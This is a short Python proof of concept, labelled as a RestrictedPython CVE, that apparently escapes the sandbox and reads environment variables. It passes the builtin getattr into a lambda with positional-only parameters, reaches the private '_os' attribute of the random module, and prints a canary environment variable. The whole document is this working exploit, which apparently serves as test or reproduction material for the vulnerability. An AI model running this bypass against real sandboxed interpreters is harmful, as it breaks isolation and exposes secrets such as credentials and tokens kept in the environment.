# source: RestrictedPython CVE-2026-55830
# effect: environment

import random

print((lambda getattr, value, name, /: getattr(value, name))(getattr, random, "_os").environ["ASSAY_CANARY"])
